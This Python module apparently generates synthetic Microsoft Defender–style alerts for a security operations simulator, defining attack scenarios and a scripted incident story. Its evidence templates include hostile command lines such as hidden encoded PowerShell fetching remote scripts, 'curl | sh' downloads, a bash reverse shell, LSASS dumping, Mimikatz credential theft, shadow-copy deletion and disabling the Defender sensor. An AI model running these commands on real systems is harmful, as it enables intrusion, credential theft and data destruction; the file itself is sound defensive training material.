"""What alerts the tenant knows: titles as hunters quote them, our own descriptions, and what each leaves as evidence.

A scenario is a group of kinds that happen together; every incident plays one. The recipe of a kind is a list of pieces
of evidence with placeholders: `{user}`, `{host}`, `{n}` (a number), `{hex}` (eight hex digits), `{b64}`, `{ip}`, `{url}`.
"""

from __future__ import annotations

from typing import NamedTuple

ATP = "WindowsDefenderAtp"
AV = "WindowsDefenderAv"
CUSTOM = "CustomDetection"
TI = "CustomerTI"
SMART = "WindowsDefenderSmartScreen"
IDENTITY = "AzureAdvancedThreatProtection"


class Run(NamedTuple):
    """A process and its parent; `path` and `parent_path` are folders."""

    path: str
    file: str
    command: str
    parent: str = "explorer.exe"
    parent_path: str = "C:\\Windows"


class Drop(NamedTuple):
    """A file."""

    path: str
    file: str


class Net(NamedTuple):
    """An address, or a link when `url` is given."""

    url: str = ""


class Reg(NamedTuple):
    """A registry value."""

    hive: str
    key: str
    name: str
    value: str


Piece = Run | Drop | Net | Reg


class Kind(NamedTuple):
    """One kind of alert; `techniques` are MITRE ids."""

    title: str
    severity: str
    category: str
    source: str
    techniques: str
    family: str
    threat: str
    text: str
    pieces: tuple[Piece, ...]


class Scenario(NamedTuple):
    """Kinds that happen together on machines of some families; `weight` is its share among them."""

    families: str
    weight: int
    kinds: tuple[Kind, ...]


SYS = "C:\\Windows\\System32"
PS = SYS + "\\WindowsPowerShell\\v1.0"
DOWN = "C:\\Users\\{user}\\Downloads"
TEMP = "C:\\Users\\{user}\\AppData\\Local\\Temp"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
RUN_KEY = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


def _av(title: str, severity: str, family: str, threat: str, folder: str, file: str) -> Kind:
    text = (
        f"Defender Antivirus found {family} on this machine.\n\nIt was stopped before it could run. Look for how it came "
        "here, and for other files of the same origin."
    )
    return Kind(title, severity, "Malware", AV, "", family, threat, text, (Drop(folder, file),))


PHISH = Scenario(
    "client",
    5,
    (
        Kind(
            "Suspicious process launched by a Word document", "High", "InitialAccess", ATP, "T1566.001 T1204.002", "", "",
            "A document opened from mail started a script interpreter. Documents rarely do that for a good reason.",
            (
                Run(PS, "powershell.exe", "powershell.exe -nop -w hidden -enc {b64}", "WINWORD.EXE", OFFICE),
                Drop(DOWN, "invoice_{n}.docm"),
                Net("https://files-{hex}.example.net/a/{n}"),
            ),
        ),
        Kind(
            "Suspicious PowerShell command line", "Medium", "Execution", ATP, "T1059.001 T1027", "", "",
            "PowerShell was started with an encoded command and without a window, which hides what it does.",
            (
                Run(PS, "powershell.exe", "powershell.exe -ep bypass -c \"IEX (iwr http://{ip}/s.ps1)\"", "cmd.exe", SYS),
                Net(),
            ),
        ),
        Kind(
            "Suspicious scheduled task", "Medium", "Persistence", ATP, "T1053.005", "", "",
            "A scheduled task that starts a program from a user's folder was made by a script.",
            (
                Run(SYS, "schtasks.exe", "schtasks /create /sc minute /mo 30 /tn Updater{n} /tr {file}", "powershell.exe", PS),
                Drop(TEMP, "upd{n}.exe"),
            ),
        ),
        Kind(
            "Anomalous registry modification in ASEP", "Low", "Persistence", ATP, "T1547.001", "", "",
            "A value that starts a program at every sign-in was written by an unusual process.",
            (
                Run(SYS, "reg.exe", "reg add HKCU\\{key} /v Updater /d {file}", "powershell.exe", PS),
                Reg("HKEY_CURRENT_USER", RUN_KEY, "Updater", "C:\\Users\\Public\\upd{n}.exe"),
            ),
        ),
        Kind(
            "Connection to adversary-in-the-middle (AiTM) phishing site", "Medium", "CredentialAccess", SMART, "T1557 T1566.002",
            "", "", "A person opened a page that relays a sign-in to steal the session. The account should be looked at.",
            (Run("C:\\Program Files\\Microsoft\\Edge\\Application", "msedge.exe", "msedge.exe --single-argument {url}"),
             Net("https://login-{hex}.example.org/common/oauth2")),
        ),
    ),
)  # fmt: skip

HANDS_ON = Scenario(
    "client server dc",
    2,
    (
        Kind(
            "Suspicious access to LSASS service", "High", "CredentialAccess", ATP, "T1003.001", "", "",
            "A process read the memory of lsass.exe, where credentials are held. Treat accounts that signed in here as known "
            "to the attacker.",
            (Run(TEMP, "procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe out.dmp", "cmd.exe", SYS),
             Drop(TEMP, "out.dmp")),
        ),
        Kind(
            "Suspicious remote activity", "Medium", "LateralMovement", ATP, "T1021.002 T1569.002", "", "",
            "A service was made on this machine from another one and started a program.",
            (Run("C:\\Windows", "PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "services.exe", SYS), Net()),
        ),
        Kind(
            "Suspicious sequence of exploration activities", "Low", "Discovery", ATP, "T1087 T1018 T1482", "", "",
            "Commands that list accounts, groups, machines and trusts ran within minutes.",
            (Run(SYS, "net.exe", "net group \"Domain Admins\" /domain", "cmd.exe", SYS),
             Run(SYS, "nltest.exe", "nltest /domain_trusts", "cmd.exe", SYS)),
        ),
        Kind(
            "Malicious credential theft tool execution detected", "High", "CredentialAccess", AV, "T1003", "Mimikatz",
            "HackTool:Win32/Mimikatz.D", "A tool made to steal credentials was started.",
            (Run(TEMP, "m.exe", "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "cmd.exe", SYS),),
        ),
        Kind(
            "Event log was cleared", "Medium", "DefenseEvasion", ATP, "T1070.001", "", "",
            "A Windows event log was emptied. Attackers do this to hide what they did before.",
            (Run(SYS, "wevtutil.exe", "wevtutil cl Security", "cmd.exe", SYS),),
        ),
    ),
)  # fmt: skip

RANSOM = Scenario(
    "client server",
    1,
    (
        Kind(
            "Ransomware behavior detected in the file system", "High", "Ransomware", ATP, "T1486", "", "",
            "Many files were rewritten and renamed by one process within seconds.",
            (Run("C:\\Users\\Public", "lock{n}.exe", "lock{n}.exe -path C:\\ -nomutex", "cmd.exe", SYS),
             Drop("C:\\Users\\Public", "README_{hex}.txt")),
        ),
        Kind(
            "File backups were deleted", "High", "Ransomware", ATP, "T1490", "", "",
            "Shadow copies were deleted, so that files can't be restored from them.",
            (Run(SYS, "vssadmin.exe", "vssadmin delete shadows /all /quiet", "cmd.exe", SYS),),
        ),
        Kind(
            "Tampering with Microsoft Defender for Endpoint sensor settings", "High", "DefenseEvasion", ATP, "T1562.001", "", "",
            "Somebody tried to switch the sensor off.",
            (Run(SYS, "sc.exe", "sc config Sense start= disabled", "cmd.exe", SYS),
             Reg("HKEY_LOCAL_MACHINE", "SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "1")),
        ),
    ),
)  # fmt: skip

COMMODITY = Scenario(
    "client",
    6,
    (
        _av("'Wacatac' malware was prevented", "Low", "Wacatac", "Trojan:Win32/Wacatac.B!ml", DOWN, "setup_{n}.exe"),
        _av("'AgentTesla' malware was detected", "Medium", "AgentTesla", "Trojan:MSIL/AgentTesla.CRX", TEMP, "PO-{n}.exe"),
        _av("'Qakbot' malware was prevented", "Medium", "Qakbot", "Trojan:Win32/Qakbot.PAK!MTB", DOWN, "scan_{n}.js"),
        Kind(
            "Suspected delivery of Gootkit malware", "Medium", "InitialAccess", ATP, "T1189 T1059.007", "Gootkit", "",
            "A script with a name made of search words was opened from an archive.",
            (Run(SYS, "wscript.exe", "wscript.exe \"{file}\""), Drop(DOWN, "free_contract_template_{n}.js")),
        ),
    ),
)  # fmt: skip

NOISE = Scenario(
    "client mac",
    4,
    (
        _av("'Presenoker' unwanted software was prevented", "Informational", "Presenoker", "PUA:Win32/Presenoker", DOWN, "toolbar.exe"),
        _av("'EICAR_Test_File' malware was prevented", "Informational", "EICAR_Test_File", "Virus:DOS/EICAR_Test_File", DOWN, "eicar.com"),
    ),
)  # fmt: skip

IDENTITY_ATTACK = Scenario(
    "dc",
    3,
    (
        Kind(
            "Suspected overpass-the-hash attack (Kerberos)", "High", "LateralMovement", IDENTITY, "T1550.002 T1558", "", "",
            "A ticket was asked for with a weaker cipher than this account uses otherwise.", (Net(),),
        ),
        Kind(
            "Suspected DCSync attack (replication of directory services)", "High", "CredentialAccess", IDENTITY, "T1003.006",
            "", "", "A machine that is no domain controller asked for a replication of secrets.", (Net(),),
        ),
        Kind(
            "User and group membership reconnaissance (SAMR)", "Medium", "Discovery", IDENTITY, "T1087.002 T1069.002", "", "",
            "Accounts and groups were listed over SAMR by an account that does not do that.", (Net(),),
        ),
        Kind(
            "Suspicious service registration", "Medium", "Persistence", ATP, "T1543.003", "", "",
            "A service that starts a shell was registered.",
            (Run(SYS, "sc.exe", "sc create upd{n} binPath= \"cmd /c {file}\"", "cmd.exe", SYS),
             Reg("HKEY_LOCAL_MACHINE", "SYSTEM\\CurrentControlSet\\Services\\upd{n}", "ImagePath", "cmd /c upd{n}.bat")),
        ),
    ),
)  # fmt: skip

SERVER_ATTACK = Scenario(
    "server",
    4,
    (
        Kind(
            "Possible web shell installation", "High", "Persistence", ATP, "T1505.003", "", "",
            "The web server wrote a script file into its own folder and then ran commands from it.",
            (Run(SYS, "cmd.exe", "cmd.exe /c whoami", "w3wp.exe", SYS + "\\inetsrv"), Drop("C:\\inetpub\\wwwroot\\aspnet_client", "{hex}.aspx")),
        ),
        Kind(
            "Suspicious process executed by a network service", "Medium", "Execution", ATP, "T1190 T1059.003", "", "",
            "A service that faces the network started a command interpreter.",
            (Run(SYS, "cmd.exe", "cmd.exe /c certutil -urlcache -f http://{ip}/t.exe t.exe", "sqlservr.exe", "C:\\Program Files\\Microsoft SQL Server\\MSSQL15\\Binn"), Net()),
        ),
        Kind(
            "Possible Log4j exploitation", "High", "InitialAccess", ATP, "T1190", "", "",
            "A request with a lookup expression made a Java process fetch code.",
            (Run("C:\\Program Files\\Java\\bin", "java.exe", "java.exe -jar portal.jar", "services.exe", SYS), Net("ldap://{ip}:1389/a")),
        ),
        Kind(
            "Multiple failed sign-ins followed by a success", "Medium", "CredentialAccess", CUSTOM, "T1110.003", "", "",
            "Custom rule: more than 30 failed sign-ins from one address, then one that worked.", (Net(),),
        ),
    ),
)  # fmt: skip

LINUX_ATTACK = Scenario(
    "linux",
    1,
    (
        Kind(
            "Suspicious cron job", "Low", "Persistence", ATP, "T1053.003", "", "", "A cron job that fetches a script was made.",
            (Run("/usr/bin", "curl", "curl -fsSL http://{ip}/x.sh | sh", "crond", "/usr/sbin"), Net()),
        ),
        Kind(
            "Possible cryptocurrency miner", "Medium", "Malware", ATP, "T1496", "CoinMiner", "",
            "A process uses most of the processor and talks to a mining pool.",
            (Run("/tmp/.x", "kworker{n}", "/tmp/.x/kworker{n} -o pool.example.net:3333", "sh", "/bin"), Drop("/tmp/.x", "kworker{n}")),
        ),
        Kind(
            "Suspicious reverse shell", "High", "CommandAndControl", ATP, "T1059.004 T1571", "", "",
            "A shell was bound to a network connection to an outside address.",
            (Run("/bin", "bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1", "python3", "/usr/bin"), Net()),
        ),
    ),
)  # fmt: skip

MAC_ATTACK = Scenario(
    "mac",
    3,
    (
        Kind(
            "Suspicious macOS persistence agent", "Medium", "Persistence", ATP, "T1543.001", "", "",
            "A launch agent that starts a script from a hidden folder was written.",
            (Run("/usr/bin", "osascript", "osascript -e 'do shell script \"sh {file}\"'", "bash", "/bin"),
             Drop("/Users/{user}/Library/LaunchAgents", "com.update.{hex}.plist")),
        ),
        _av("'Adload' malware was prevented", "Low", "Adload", "Trojan:MacOS/Adload.A!MTB", "/Users/{user}/Downloads", "Player.dmg"),
    ),
)  # fmt: skip

PHONE = Scenario(
    "phone",
    1,
    (
        Kind(
            "Connection to a risky network", "Informational", "SuspiciousActivity", ATP, "", "", "",
            "The phone joined an open network.", (Net(),),
        ),
        Kind(
            "Phishing site blocked", "Informational", "InitialAccess", SMART, "T1566.002", "", "",
            "A link to a page that steals sign-ins was blocked.", (Net("https://parcel-{hex}.example.com/track"),),
        ),
    ),
)  # fmt: skip

TOOLING = Scenario(
    "client server",
    2,
    (
        Kind(
            "Remote monitoring and management tool from an unusual place", "Low", "CommandAndControl", CUSTOM, "T1219", "", "",
            "Custom rule: a remote support tool runs from a user's folder.",
            (Run(DOWN, "AnyDesk.exe", "AnyDesk.exe --service"), Net()),
        ),
        Kind(
            "Connection to a custom network indicator", "Informational", "CommandAndControl", TI, "T1071.001", "", "",
            "A process connected to an address of the tenant's own list.",
            (Run("C:\\Program Files\\Google\\Chrome\\Application", "chrome.exe", "chrome.exe"), Net("http://cdn-{hex}.example.net/")),
        ),
    ),
)  # fmt: skip

SCENARIOS = [
    PHISH, HANDS_ON, RANSOM, COMMODITY, NOISE, IDENTITY_ATTACK, SERVER_ATTACK, LINUX_ATTACK, MAC_ATTACK, PHONE, TOOLING,
]  # fmt: skip
KINDS: list[Kind] = [kind for scenario in SCENARIOS for kind in scenario.kinds]

# the case the queue opens with: (minutes ago, kind, whether it is on the domain controller)
STORY: list[tuple[int, str, bool]] = [
    (47, "Suspicious process launched by a Word document", False),
    (44, "Suspicious PowerShell command line", False),
    (41, "Suspicious scheduled task", False),
    (33, "Suspicious access to LSASS service", False),
    (21, "Suspicious sequence of exploration activities", False),
    (12, "Suspicious remote activity", True),
    (4, "Suspected DCSync attack (replication of directory services)", True),
]
